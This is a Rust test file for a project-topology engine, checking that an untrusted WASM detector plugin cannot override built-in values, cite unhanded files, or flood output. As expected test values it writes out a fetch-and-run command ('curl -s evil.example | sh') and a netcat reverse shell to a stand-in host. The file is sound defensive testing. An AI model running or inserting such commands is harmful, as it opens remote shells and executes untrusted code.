//! What a plugin's findings may do to a topology: an untrusted plugin never overrides
//! a value a built-in detector set (it fills gaps and adds services); a plugin the user
//! trusts may; either way the disagreement is kept as a rival. Its evidence names only
//! files it was handed, its ids are unique, and what it adds to a topology is capped.
//!
//! The hostile plugin (`detectors/testing/hostile`) reads what to do from the
//! project's `hostile.txt`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "common/plugins.rs"]
mod plugins;

use std::sync::Arc;

use kyozo::topology::wasm::{PluginError, PluginSource, WasmDetector};
use kyozo::topology::{ProjectView, Topology, TopologyEngine, TopologyService};
use plugins::{host, plugin};

fn hostile() -> WasmDetector {
    host().load(plugin("hostile")).unwrap()
}

/// A Node app (no lockfile, no scripts: the built-in assumes its commands) whose `hostile.txt` says `mode`, and a
/// `secret.txt` the plugin never reads.
fn node_app(mode: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let files = [
        (
            "package.json",
            r#"{"name": "app", "version": "1.0.0", "main": "server.js"}"#,
        ),
        ("server.js", "require('http').createServer().listen(8080)\n"),
        (".env.example", "PORT=8080\n"),
        ("hostile.txt", mode),
        ("secret.txt", "not for plugins\n"),
    ];
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    dir
}

fn analyze(engine: TopologyEngine, dir: &tempfile::TempDir) -> Topology {
    engine.analyze(dir.path()).unwrap()
}

fn only(t: &Topology) -> &TopologyService {
    assert_eq!(t.services.len(), 1, "{t:#?}");
    &t.services[0]
}

/// Asserts that every value `builtin` (the built-ins alone) set is the same in `s`.
fn keeps_builtin_values(s: &TopologyService, builtin: &TopologyService) {
    for ((field, theirs), (_, ours)) in values(builtin).into_iter().zip(values(s)) {
        if theirs.is_some() {
            assert_eq!(ours, theirs, "{field} changed: {s:#?}");
        }
    }
}

/// The values of a service the built-ins may set, as text.
fn values(s: &TopologyService) -> Vec<(&'static str, Option<String>)> {
    let v = |o: &Option<kyozo::topology::Sourced<String>>| o.as_ref().map(|s| s.value.clone());
    vec![
        ("language", Some(s.language.clone())),
        ("package_manager", s.package_manager.clone()),
        ("runtime_version", v(&s.runtime_version)),
        ("install_command", v(&s.install_command)),
        ("build_command", v(&s.build_command)),
        ("start_command", v(&s.start_command)),
        (
            "ports",
            Some(format!(
                "{:?}",
                s.ports.iter().map(|p| p.port).collect::<Vec<_>>()
            )),
        ),
    ]
}

/// The finding of issue 14: a plugin barely sure of itself (0.05) claimed the built-in's
/// service and replaced its install command and ports (read-from-a-file beat the
/// built-in's defaults). Now nothing a built-in set moves; the plugin fills only the
/// framework no built-in found, and its other values are a rival, visible.
#[test]
fn an_untrusted_plugin_never_overrides_a_builtin_value() {
    let dir = node_app("claim");
    let builtin = analyze(TopologyEngine::new(), &dir);
    let b = only(&builtin);
    assert_eq!(b.language, "node");
    assert!(
        b.install_command.is_some() && b.start_command.is_some() && !b.ports.is_empty(),
        "the built-in sets the values the plugin will contest: {b:#?}"
    );
    assert_eq!(b.framework, None, "no framework for a plain Node app");
    assert_eq!(b.build_command, None, "no build script");

    let with = analyze(
        TopologyEngine::new().with_detector(Arc::new(hostile())),
        &dir,
    );
    let s = only(&with);
    keeps_builtin_values(s, b);
    // Fields no built-in filled are the plugin's to fill.
    assert_eq!(s.framework.as_deref(), Some("evilframework"));
    assert_eq!(s.build_command.as_ref().unwrap().value, "true");
    // The rest of what it said is a rival, with the values it lost.
    let rival = s
        .rivals
        .iter()
        .find(|r| r.detector == "plugin:hostile")
        .unwrap_or_else(|| panic!("the plugin's claim is kept as a rival: {s:#?}"));
    let lost: Vec<(&str, &str)> = rival
        .values
        .iter()
        .map(|v| (v.field.as_str(), v.value.as_str()))
        .collect();
    for expected in [
        ("package_manager", "evilpm"),
        ("runtime_version", "6.6.6"),
        ("install_command", "curl -s evil.example | sh"),
        ("start_command", "nc -e /bin/sh evil.example 4444"),
        ("ports", "6666"),
    ] {
        assert!(lost.contains(&expected), "{expected:?} in {lost:?}");
    }
    // Its claim does not make the built-in's service look more or less certain.
    assert_eq!(s.confidence, b.confidence);
}

/// A plugin very sure (0.99) that the built-in's Node app is Python: the stack stays
/// the built-in's, the plugin's claim is a rival.
#[test]
fn an_untrusted_plugin_never_changes_a_builtin_stack() {
    let dir = node_app("claim-language");
    let builtin = analyze(TopologyEngine::new(), &dir);
    let with = analyze(
        TopologyEngine::new().with_detector(Arc::new(hostile())),
        &dir,
    );
    let (b, s) = (only(&builtin), only(&with));
    keeps_builtin_values(s, b);
    assert_eq!(s.detectors, b.detectors);
    let rival = s
        .rivals
        .iter()
        .find(|r| r.detector == "plugin:hostile")
        .unwrap_or_else(|| panic!("a rival: {s:#?}"));
    assert_eq!(rival.language, "python");
    assert_eq!(rival.confidence, 0.99);
}

/// A plugin the user trusts by its id may override; the built-in's values it replaced
/// are kept as the built-in's rival claim.
#[test]
fn a_trusted_plugin_may_override_and_the_builtin_value_is_kept_as_a_rival() {
    let dir = node_app("claim");
    let builtin = analyze(TopologyEngine::new(), &dir);
    let b = only(&builtin);
    let engine = TopologyEngine::new()
        .with_detector(Arc::new(hostile()))
        .with_trusted_plugin("hostile");
    let with = analyze(engine, &dir);
    let s = only(&with);
    let install = s.install_command.as_ref().unwrap();
    assert_eq!(install.value, "curl -s evil.example | sh");
    let rival = s
        .rivals
        .iter()
        .find(|r| r.detector == "node")
        .unwrap_or_else(|| panic!("the built-in's values are kept: {s:#?}"));
    let old = b.install_command.as_ref().unwrap();
    assert!(
        rival
            .values
            .iter()
            .any(|v| v.field == "install_command" && v.value == old.value),
        "{rival:#?}"
    );

    // Trusted through the builder, with the plugin's id, the more confident stack wins.
    let dir = node_app("claim-language");
    let kyozo = kyozo::Kyozo::builder()
        .plugin_host(host())
        .detector_plugin(plugin("hostile"))
        .trust_plugin("hostile")
        .build()
        .unwrap();
    let t = kyozo.engine().analyze(dir.path()).unwrap();
    let s = only(&t);
    assert_eq!(s.language, "python");
    assert!(
        s.rivals
            .iter()
            .any(|r| r.detector == "node" && r.language == "node")
    );
}

/// The finding: evidence citing `../../etc/passwd` or files that do not exist was
/// shown as the plugin's reasons. Evidence must name a file the engine's walk handed
/// to the plugin in that call (or a folder holding one); anything else refuses the
/// result.
#[test]
fn evidence_naming_a_file_the_plugin_was_not_handed_refuses_the_result() {
    let dir = node_app("lying-evidence");
    let view = ProjectView::scan(dir.path()).unwrap();
    let err = hostile().run(&view).unwrap_err();
    let PluginError::InvalidResult { plugin, reason } = &err else {
        panic!("expected an invalid result, got {err:?}");
    };
    assert_eq!(plugin, "hostile");
    assert!(
        reason.contains("does-not-exist.txt") && reason.contains("not handed"),
        "{reason}"
    );
    // In an analysis: a warning, and none of the lies in the topology.
    let t = analyze(
        TopologyEngine::new().with_detector(Arc::new(hostile())),
        &dir,
    );
    let json = serde_json::to_string(&t).unwrap();
    for lie in ["etc/passwd", "etc/shadow", "secret.txt", "does-not-exist"] {
        assert!(
            !t.services.iter().any(|s| s
                .evidence
                .iter()
                .chain(s.rivals.iter().flat_map(|r| &r.evidence))
                .any(|e| e.path.contains(lie))),
            "{lie} cited: {json}"
        );
    }
    assert!(
        t.warnings
            .iter()
            .any(|w| w.contains("plugin:hostile") && w.contains("not handed")),
        "{:#?}",
        t.warnings
    );
}

/// Two plugins with the same id would mix their detections under one name: the second
/// is refused, naming both sources.
#[test]
fn duplicate_plugin_ids_are_refused_naming_both_sources() {
    let first = plugin("hostile");
    let bytes = std::fs::read(&first).unwrap();
    let err = kyozo::Kyozo::builder()
        .plugin_host(host())
        .detector_plugin(first.clone())
        .detector_plugin(PluginSource::bytes("copy-of-hostile.wasm", bytes))
        .build()
        .unwrap_err();
    let message = err.to_string();
    assert!(
        message.contains("hostile")
            && message.contains(&first.display().to_string())
            && message.contains("copy-of-hostile.wasm"),
        "{message}"
    );
    let kyozo::Error::Plugin(PluginError::DuplicateId {
        id,
        first: a,
        second: b,
    }) = &err
    else {
        panic!("expected a duplicate id, got {err:?}");
    };
    assert_eq!(id, "hostile");
    assert_eq!(a, &first.display().to_string());
    assert_eq!(b, "copy-of-hostile.wasm");
}

/// The finding: one plugin put 3.9 MB into `analyze --json`. A thousand rival claims
/// and a thousand warnings from one plugin are cut to the documented caps, with a
/// count of what was dropped.
#[test]
fn rivals_and_warnings_of_one_plugin_are_capped() {
    let dir = node_app("rival-flood");
    let t = analyze(
        TopologyEngine::new().with_detector(Arc::new(hostile())),
        &dir,
    );
    let json = serde_json::to_string(&t).unwrap();
    assert!(json.len() < 64 << 10, "{} bytes of JSON", json.len());
    let s = only(&t);
    let rivals = s
        .rivals
        .iter()
        .filter(|r| r.detector == "plugin:hostile")
        .count();
    assert_eq!(rivals, 16, "{:#?}", s.rivals);
    // Each rival's evidence was 3000 bytes: it is kept cut to the string cap, with `…`.
    let cap = kyozo::topology::MAX_PLUGIN_TEXT;
    for r in s.rivals.iter().filter(|r| r.detector == "plugin:hostile") {
        assert!(!r.evidence.is_empty(), "{r:#?}");
        for e in &r.evidence {
            assert_eq!(e.reason, format!("{}…", "r".repeat(cap)), "{r:#?}");
        }
    }
    assert!(
        t.warnings
            .iter()
            .any(|w| w.contains("plugin:hostile") && w.contains("984 more rival claims")),
        "{:#?}",
        t.warnings
    );

    let dir = node_app("warning-flood");
    let t = analyze(
        TopologyEngine::new().with_detector(Arc::new(hostile())),
        &dir,
    );
    let json = serde_json::to_string(&t).unwrap();
    assert!(json.len() < 64 << 10, "{} bytes of JSON", json.len());
    let ours: Vec<&String> = t
        .warnings
        .iter()
        .filter(|w| w.contains("plugin:hostile"))
        .collect();
    assert_eq!(ours.len(), 17, "16 warnings and a count: {ours:#?}");
    assert!(ours.iter().all(|w| w.len() < 600), "{ours:#?}");
    assert!(ours[16].contains("984 more warnings"), "{}", ours[16]);
}

/// A service only a plugin found: its evidence, however much the plugin gave, is cut
/// to the documented cap per plugin and service.
#[test]
fn the_evidence_one_plugin_gives_a_service_is_capped() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("hostile.txt"), "evidence-flood").unwrap();
    let t = analyze(
        TopologyEngine::new().with_detector(Arc::new(hostile())),
        &dir,
    );
    let s = only(&t);
    assert_eq!(s.language, "hostile");
    assert_eq!(
        s.evidence.len(),
        kyozo::topology::MAX_PLUGIN_EVIDENCE,
        "{}",
        s.evidence.len()
    );
    let json = serde_json::to_string(&t).unwrap();
    assert!(json.len() < 64 << 10, "{} bytes of JSON", json.len());
}

/// The finding: a `println!` past the 64 KiB stdout cap failed the write, Rust's
/// `println!` panicked and the call was lost. Now what passes the cap is dropped and
/// counted; the plugin's answer stands.
#[test]
fn printing_past_the_output_cap_is_cut_not_a_crash() {
    let dir = node_app("big-println");
    let view = ProjectView::scan(dir.path()).unwrap();
    let run = hostile().run(&view).unwrap();
    assert_eq!(run.detections.len(), 1);
    let dropped: Vec<&String> = run.log.iter().filter(|l| l.contains("bytes")).collect();
    assert!(
        dropped
            .iter()
            .any(|l| l.contains("stdout") && l.contains("dropped")),
        "{:?}",
        &run.log[run.log.len().saturating_sub(3)..]
    );
}

/// Every error has a stable kind and names its plugin, for `analyze --json`.
#[test]
fn plugin_errors_have_a_kind_and_a_plugin() {
    let dir = node_app("panic");
    let view = ProjectView::scan(dir.path()).unwrap();
    let err = hostile().run(&view).unwrap_err();
    assert_eq!(err.kind(), "trap");
    assert_eq!(err.plugin(), Some("hostile"));
    let err = host()
        .load(PluginSource::bytes("garbage.wasm", vec![1, 2, 3]))
        .unwrap_err();
    assert_eq!(
        (err.kind(), err.plugin()),
        ("invalid", Some("garbage.wasm"))
    );
}

/// A folder only an untrusted plugin describes (`db/`, migrations) never takes the name
/// of a service a built-in found (`services/db`, also `db`), even when its folder comes
/// first: the name is the service's address on the network and its record in the state.
#[test]
fn an_untrusted_plugin_never_takes_a_builtin_services_name() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("db")).unwrap();
    std::fs::create_dir_all(dir.path().join("services/db")).unwrap();
    for (name, text) in [
        ("hostile.txt", "claim-db"),
        ("db/001_init.sql", "create table t (id int);\n"),
        ("services/db/Dockerfile", "FROM postgres:16\nEXPOSE 5432\n"),
    ] {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    let with = analyze(
        TopologyEngine::new().with_detector(Arc::new(hostile())),
        &dir,
    );
    let named = |name: &str| {
        with.services
            .iter()
            .find(|s| s.name == name)
            .unwrap_or_else(|| panic!("{name} in {:#?}", with.services))
    };
    assert_eq!(named("db").path, "services/db", "{:#?}", with.services);
    assert_eq!(named("db-2").language, "sqlmigrate");
}
